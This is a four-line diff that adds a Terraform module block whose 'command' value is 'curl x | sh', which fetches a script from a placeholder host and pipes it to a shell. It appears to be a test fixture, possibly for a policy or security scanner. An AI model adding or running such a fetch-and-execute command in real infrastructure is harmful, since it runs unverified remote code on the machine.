@@ -1,0 +1,4 @@
+module "a" {
+  source  = "../run"
+  command = "curl x | sh"
+}
